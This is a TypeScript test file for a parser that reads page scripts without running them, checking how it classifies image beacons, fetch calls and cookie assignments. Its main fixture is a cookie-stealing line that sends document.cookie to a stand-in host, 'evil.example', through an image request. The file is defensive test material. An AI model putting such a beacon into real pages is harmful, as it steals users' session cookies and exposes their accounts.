import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { readScript, textOf } from './page-script.ts'

const page = { cookie: 'a=1; b=2', url: 'https://shop.example/mug' }
const beacon =
  'new Image().src = "https://evil.example/collect?" + encodeURIComponent(document.cookie)'

describe('a script in a page', () => {
  it('may send its cookies away as an image', () => {
    const [statement] = readScript(`${beacon};`)
    expect(statement?.kind === 'image' && textOf(statement.url, page)).toBe(
      'https://evil.example/collect?a%3D1%3B%20b%3D2',
    )
  })

  it('may fetch, with a method, a body and a credentials mode', () => {
    const [statement] = readScript(
      `fetch('/api/cart', { method: 'POST', body: location.href, credentials: 'include' })`,
    )
    if (statement?.kind !== 'fetch') throw new Error('no fetch')
    expect(textOf(statement.url, page)).toBe('/api/cart')
    expect([...statement.init].map(([name, value]) => `${name}=${textOf(value, page)}`)).toEqual([
      'method=POST',
      `body=${page.url}`,
      'credentials=include',
    ])
  })

  it('may assign document.cookie, one statement after the other', () => {
    const kinds = readScript(`document.cookie = 'a=2'\n${beacon}`).map(({ kind }) => kind)
    expect(kinds).toEqual(['set-cookie', 'image'])
  })

  it.each([
    'alert(1)',
    `${beacon}; eval('1')`,
    'fetch(`/${document.cookie}`)',
    'fetch("/a"',
    'fetch("/a", { method })',
    '"unclosed',
  ])('does nothing where it has anything else in it: %s', (source) => {
    expect(readScript(source)).toEqual([])
  })

  it('is read whatever it is, and never run', () => {
    fc.assert(fc.property(fc.string(), (source) => void readScript(source)))
  })
})
